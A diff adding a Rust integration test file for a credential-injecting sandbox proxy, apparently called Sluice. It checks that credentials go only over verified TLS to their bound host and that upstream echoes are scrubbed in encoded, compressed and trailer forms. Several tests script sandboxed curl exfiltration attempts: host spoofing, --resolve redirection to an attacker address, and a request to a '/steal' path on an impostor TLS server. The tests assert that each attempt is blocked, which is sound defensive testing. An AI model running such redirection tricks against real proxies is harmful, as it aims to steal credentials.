@@ -1,0 +1,478 @@
+//! Credentials only over verified TLS, and echoes scrubbed in every form, end to end through
+//! the real daemon: a sandbox that points plain HTTP (capture or explicit proxy) at an
+//! address it chose gets 403 and that address gets nothing; TLS toward a sandbox-chosen
+//! address whose certificate is for another name gets 502; upstream echoes in trailers,
+//! compressed bodies and encodings reach the sandbox only as placeholders.
+
+#![expect(clippy::unwrap_used, reason = "test helpers fail loudly")]
+
+use std::net::SocketAddr;
+
+use base64::Engine as _;
+use base64::engine::general_purpose::{STANDARD, URL_SAFE};
+use bytes::Bytes;
+use serde_json::Value;
+use tests::sluice::{Options, Sluice};
+use tests::upstream::{self, Canned, RunningUpstream};
+use tests::{NetLab, TestCa, addrs};
+use tokio::io::AsyncReadExt;
+
+/// The real value, bound to api.test. Its base64 has `/` and `+`, so base64url differs.
+const SECRET: &str = "sk-live/8c1f+0e7d?2b9a>>4c6e~8f1a3b5d7c9";
+const PLACEHOLDER: &str = "sluice_cred:API_KEY";
+
+struct World {
+    lab: NetLab,
+    ca: TestCa,
+    ca_file: tempfile::TempPath,
+}
+
+fn world(name: &str) -> World {
+    let lab = NetLab::new(name).unwrap();
+    let ca = TestCa::new().unwrap();
+    let ca_file = ca.pem_file().unwrap();
+    World { lab, ca, ca_file }
+}
+
+impl World {
+    fn sluice(&self) -> Sluice {
+        let ca_file = self.ca_file.to_path_buf();
+        Sluice::start(
+            &self.lab,
+            &Options {
+                extra_toml: format!("[upstream]\nextra_roots = [{ca_file:?}]\n"),
+                dns_hosts: vec![
+                    ("api.test".into(), addrs::FAR_HOST.to_string()),
+                    ("other.test".into(), addrs::HOST_A.to_string()),
+                ],
+            },
+        )
+        .unwrap()
+    }
+
+    /// An HTTPS fake whose certificate (from the trusted test CA) names `host`.
+    fn https(&self, host: &str) -> upstream::HttpUpstream {
+        upstream::https(&self.ca).hostname(host)
+    }
+}
+
+/// A session holding `API_KEY` (bound to api.test, allowed in queries and bodies); returns
+/// (id, token).
+fn session(sluice: &Sluice) -> (String, String) {
+    let out = sluice
+        .command()
+        .args(["session", "create", "--json", "--cred"])
+        .arg("API_KEY=env:SECRET@api.test")
+        .env("SECRET", SECRET)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{out:?}");
+    let created: Value = serde_json::from_slice(&out.stdout).unwrap();
+    (
+        created["session"]["id"].as_str().unwrap().to_owned(),
+        created["token"].as_str().unwrap().to_owned(),
+    )
+}
+
+/// curl in a sandbox of `session` (captured), trusting the Sluice CA; stdout + stderr.
+fn curl(sluice: &Sluice, session: &str, args: &[&str]) -> String {
+    let ca = sluice.state_dir().join("ca.pem");
+    let mut argv = vec![
+        "curl",
+        "-sS",
+        "--max-time",
+        "10",
+        "--cacert",
+        ca.to_str().unwrap(),
+    ];
+    argv.extend_from_slice(args);
+    let out = sluice
+        .exec(&["--session", session], &argv)
+        .output()
+        .unwrap();
+    String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr)
+}
+
+/// curl through the explicit proxy with the session's token; stdout + stderr.
+fn via_proxy(sluice: &Sluice, token: &str, args: &[&str]) -> String {
+    let out = sluice
+        .node_command("curl")
+        .args(["-sS", "--max-time", "10", "-x"])
+        .arg(format!("http://sluice:{token}@127.0.0.1:3128"))
+        .args(args)
+        .output()
+        .unwrap();
+    String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr)
+}
+
+fn hex(text: &str) -> String {
+    text.bytes().map(|b| format!("{b:02x}")).collect()
+}
+
+fn percent(text: &str) -> String {
+    text.bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
+                char::from(b).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
+        .collect()
+}
+
+/// Every form of `SECRET` the sandbox must never see.
+fn secret_forms() -> Vec<String> {
+    vec![
+        SECRET.into(),
+        SECRET.replace('/', "\\/"),
+        hex(SECRET),
+        hex(SECRET).to_uppercase(),
+        percent(SECRET),
+        STANDARD.encode(SECRET),
+        URL_SAFE.encode(SECRET),
+        // The value's own characters inside a longer base64 string.
+        STANDARD.encode(format!("user:{SECRET}"))[8..40].to_owned(),
+    ]
+}
+
+fn assert_no_secret(out: &str, what: &str) {
+    for form in secret_forms() {
+        assert!(
+            !out.contains(&form),
+            "{what}: the sandbox saw {form:?} in {out}"
+        );
+    }
+}
+
+fn assert_received_nothing(fake: &RunningUpstream, what: &str) {
+    assert!(
+        fake.requests().is_empty(),
+        "{what}: the sandbox-chosen address received {:?}",
+        fake.requests()
+    );
+}
+
+#[test]
+fn plain_http_to_an_address_the_sandbox_chose_never_carries_a_credential() {
+    let w = world("scp");
+    // The "attacker": a plain HTTP server at an address the sandbox picks.
+    let attacker = upstream::http()
+        .echo()
+        .start(&w.lab, SocketAddr::new(addrs::HOST_B.into(), 80))
+        .unwrap();
+    let sluice = w.sluice();
+    let (id, token) = session(&sluice);
+    let ip = addrs::HOST_B.to_string();
+    let resolve = format!("api.test:80:{ip}");
+    let auth = format!("Authorization: Bearer {PLACEHOLDER}");
+
+    let captured: Vec<(&str, Vec<String>)> = vec![
+        (
+            "header, spoofed Host toward an IP",
+            vec![
+                "-H".into(),
+                "Host: api.test".into(),
+                "-H".into(),
+                auth.clone(),
+                format!("http://{ip}/"),
+            ],
+        ),
+        (
+            "header, api.test resolved to the attacker",
+            vec![
+                "--resolve".into(),
+                resolve.clone(),
+                "-H".into(),
+                auth.clone(),
+                "http://api.test/".into(),
+            ],
+        ),
+        (
+            "query",
+            vec![
+                "--resolve".into(),
+                resolve.clone(),
+                format!("http://api.test/q?key={PLACEHOLDER}"),
+            ],
+        ),
+        (
+            "JSON body",
+            vec![
+                "--resolve".into(),
+                resolve.clone(),
+                "-H".into(),
+                "content-type: application/json".into(),
+                "--data-binary".into(),
+                format!("{{\"key\":\"{PLACEHOLDER}\"}}"),
+                "http://api.test/b".into(),
+            ],
+        ),
+    ];
+    for (what, args) in &captured {
+        let mut args: Vec<&str> = args.iter().map(String::as_str).collect();
+        args.insert(0, "-i");
+        let out = curl(&sluice, &id, &args);
+        assert!(out.starts_with("HTTP/1.1 403"), "{what}: {out}");
+        assert!(
+            out.contains("credential API_KEY is only sent over HTTPS to api.test")
+                && out.contains("plain HTTP"),
+            "{what}: the reason names the credential and why: {out}"
+        );
+        assert_received_nothing(&attacker, what);
+    }
+
+    // The explicit proxy: absolute-form, and a CONNECT tunnel to the IP with plain HTTP in it.
+    // (A spoofed Host on an absolute-form request toward the IP is refused even earlier: it
+    // differs from the request target.)
+    let spoofed = via_proxy(
+        &sluice,
+        &token,
+        &[
+            "-i",
+            "-H",
+            "Host: api.test",
+            "-H",
+            &auth,
+            &format!("http://{ip}/"),
+        ],
+    );
+    assert!(spoofed.contains("HTTP/1.1 400"), "{spoofed}");
+    assert!(
+        spoofed.contains("differs from the request target"),
+        "{spoofed}"
+    );
+    assert_received_nothing(&attacker, "absolute-form toward the IP, spoofed Host");
+    let proxied: Vec<(&str, Vec<String>)> = vec![
+        (
+            "absolute-form",
+            vec!["-H".into(), auth.clone(), "http://api.test/".into()],
+        ),
+        (
+            "CONNECT to the IP, then plain HTTP with a spoofed Host",
+            vec![
+                "-p".into(),
+                "-H".into(),
+                "Host: api.test".into(),
+                "-H".into(),
+                auth.clone(),
+                format!("http://{ip}/"),
+            ],
+        ),
+    ];
+    for (what, args) in &proxied {
+        let mut args: Vec<&str> = args.iter().map(String::as_str).collect();
+        args.insert(0, "-i");
+        let out = via_proxy(&sluice, &token, &args);
+        assert!(out.contains("HTTP/1.1 403"), "{what}: {out}");
+        assert!(
+            out.contains("credential API_KEY is only sent over HTTPS"),
+            "{what}: {out}"
+        );
+        assert_received_nothing(&attacker, what);
+    }
+
+    let records = sluice.audit();
+    let refusals = records
+        .iter()
+        .filter(|r| {
+            r["kind"] == "request"
+                && r["decision"] == "deny"
+                && r["reason"]
+                    .as_str()
+                    .is_some_and(|t| t.contains("only sent over HTTPS"))
+        })
+        .count();
+    assert_eq!(
+        refusals,
+        captured.len() + proxied.len(),
+        "one audit record per refusal: {records:?}"
+    );
+    let audit = std::fs::read_to_string(sluice.state_dir().join("audit.jsonl")).unwrap();
+    assert_no_secret(&audit, "the audit log");
+    assert_no_secret(&sluice.log(1), "the daemon log");
+}
+
+#[test]
+fn tls_to_an_address_the_sandbox_chose_must_verify_for_the_credentials_host() {
+    let w = world("sct");
+    // A TLS server at a sandbox-chosen address, with a valid certificate for another name.
+    let impostor = w
+        .https("evil.test")
+        .echo()
+        .start(&w.lab, SocketAddr::new(addrs::HOST_C.into(), 443))
+        .unwrap();
+    let sluice = w.sluice();
+    let (id, _) = session(&sluice);
+    let out = curl(
+        &sluice,
+        &id,
+        &[
+            "-i",
+            "--resolve",
+            &format!("api.test:443:{}", addrs::HOST_C),
+            "-H",
+            &format!("Authorization: Bearer {PLACEHOLDER}"),
+            "https://api.test/steal",
+        ],
+    );
+    assert!(out.starts_with("HTTP/2 502"), "{out}");
+    assert!(out.contains("certificate for api.test"), "{out}");
+    assert_received_nothing(&impostor, "a wrong-name certificate");
+    assert_no_secret(&out, "the 502");
+}
+
+/// `data` compressed as `br` when `brotli`, else as `gzip`.
+fn compress(brotli: bool, data: &[u8]) -> Vec<u8> {
+    let runtime = tokio::runtime::Builder::new_current_thread()
+        .build()
+        .unwrap();
+    runtime.block_on(async {
+        let mut out = Vec::new();
+        if brotli {
+            async_compression::tokio::bufread::BrotliEncoder::new(data)
+                .read_to_end(&mut out)
+                .await
+                .unwrap();
+        } else {
+            async_compression::tokio::bufread::GzipEncoder::new(data)
+                .read_to_end(&mut out)
+                .await
+                .unwrap();
+        }
+        out
+    })
+}
+
+/// A canned response of `body` in 7-byte chunks (so the secret spans several) with `headers`.
+fn canned(headers: &[(&str, &str)], body: &[u8]) -> Canned {
+    Canned {
+        headers: headers
+            .iter()
+            .map(|(n, v)| ((*n).to_owned(), (*v).to_owned()))
+            .collect(),
+        chunks: body.chunks(7).map(Bytes::copy_from_slice).collect(),
+        ..Canned::default()
+    }
+}
+
+#[test]
+fn echoes_reach_the_sandbox_only_as_placeholders_in_every_form() {
+    let w = world("sce");
+    let echoed = format!("{{\"token\":\"{SECRET}\"}}");
+    // JSON with `/` escaped, as PHP and others write it.
+    let json_escaped = format!("{{\"t\":\"{}\"}}", SECRET.replace('/', "\\/"));
+    let api = w
+        .https("api.test")
+        .canned(
+            "/trailer",
+            Canned {
+                trailers: vec![("x-echo".into(), format!("Bearer {SECRET}"))],
+                ..canned(&[], b"see trailers\n")
+            },
+        )
+        .canned("/header", canned(&[("x-echo", SECRET)], b"see headers\n"))
+        .canned(
+            "/gzip",
+            canned(
+                &[("content-encoding", "gzip")],
+                &compress(false, echoed.as_bytes()),
+            ),
+        )
+        .canned(
+            "/br",
+            canned(
+                &[("content-encoding", "br")],
+                &compress(true, echoed.as_bytes()),
+            ),
+        )
+        .route("/hex", format!("hex={}\n", hex(SECRET)))
+        .route("/HEX", format!("hex={}\n", hex(SECRET).to_uppercase()))
+        .route("/percent", format!("p={}\n", percent(SECRET)))
+        .route("/base64", format!("b={}\n", STANDARD.encode(SECRET)))
+        .route("/base64url", format!("b={}\n", URL_SAFE.encode(SECRET)))
+        .route(
+            "/basic",
+            format!("basic={}\n", STANDARD.encode(format!("user:{SECRET}"))),
+        )
+        .route("/json", json_escaped.clone())
+        .canned(
+            "/compress",
+            canned(&[("content-encoding", "compress")], echoed.as_bytes()),
+        )
+        .canned(
+            "/stacked",
+            canned(
+                &[("content-encoding", "gzip, br")],
+                &compress(true, &compress(false, echoed.as_bytes())),
+            ),
+        )
+        .canned(
+            "/corrupt",
+            canned(&[("content-encoding", "gzip")], echoed.as_bytes()),
+        )
+        .start(&w.lab, SocketAddr::new(addrs::FAR_HOST.into(), 443))
+        .unwrap();
+    // Another host the credential is not bound to, which stored the value earlier.
+    let other = w
+        .https("other.test")
+        .route("/stored", format!("stored={SECRET}\n"))
+        .start(&w.lab, SocketAddr::new(addrs::HOST_A.into(), 443))
+        .unwrap();
+    let sluice = w.sluice();
+    let (id, _) = session(&sluice);
+    assert_ne!(STANDARD.encode(SECRET), URL_SAFE.encode(SECRET));
+
+    let fetch = |url: &str| curl(&sluice, &id, &["-i", url]);
+    let cases: Vec<(&str, String)> = vec![
+        ("/trailer", format!("x-echo: Bearer {PLACEHOLDER}")),
+        ("/header", format!("x-echo: {PLACEHOLDER}")),
+        ("/gzip", format!("{{\"token\":\"{PLACEHOLDER}\"}}")),
+        ("/br", format!("{{\"token\":\"{PLACEHOLDER}\"}}")),
+        ("/hex", format!("hex={}", hex(PLACEHOLDER))),
+        ("/HEX", format!("hex={}", hex(PLACEHOLDER).to_uppercase())),
+        ("/percent", format!("p={}", percent(PLACEHOLDER))),
+        ("/base64", format!("b={}", STANDARD.encode(PLACEHOLDER))),
+        ("/base64url", format!("b={}", URL_SAFE.encode(PLACEHOLDER))),
+        ("/json", format!("\"t\":\"{PLACEHOLDER}\"")),
+    ];
+    for (path, want) in &cases {
+        let out = fetch(&format!("https://api.test{path}"));
+        assert!(out.starts_with("HTTP/2 200"), "{path}: {out}");
+        assert_no_secret(&out, path);
+        assert!(
+            out.contains(want.as_str()),
+            "{path}: want {want:?} in {out}"
+        );
+        if matches!(*path, "/gzip" | "/br") {
+            assert!(
+                !out.to_ascii_lowercase().contains("content-encoding"),
+                "{path}: sent identity-encoded: {out}"
+            );
+        }
+    }
+    let basic = fetch("https://api.test/basic");
+    assert!(basic.starts_with("HTTP/2 200"), "{basic}");
+    assert_no_secret(&basic, "/basic");
+
+    let stored = fetch("https://other.test/stored");
+    assert!(stored.starts_with("HTTP/2 200"), "{stored}");
+    assert!(
+        stored.contains(&format!("stored={PLACEHOLDER}")),
+        "{stored}"
+    );
+    assert_no_secret(&stored, "another host's echo");
+    assert_eq!(other.requests().len(), 1);
+
+    for (path, reason) in [
+        ("/compress", "`compress`"),
+        ("/stacked", "several times"),
+        ("/corrupt", "does not decode"),
+    ] {
+        let out = fetch(&format!("https://api.test{path}"));
+        assert!(out.starts_with("HTTP/2 502"), "{path}: {out}");
+        assert!(out.contains(reason), "{path}: {out}");
+        assert_no_secret(&out, path);
+    }
+    assert!(api.requests().len() >= cases.len());
+}
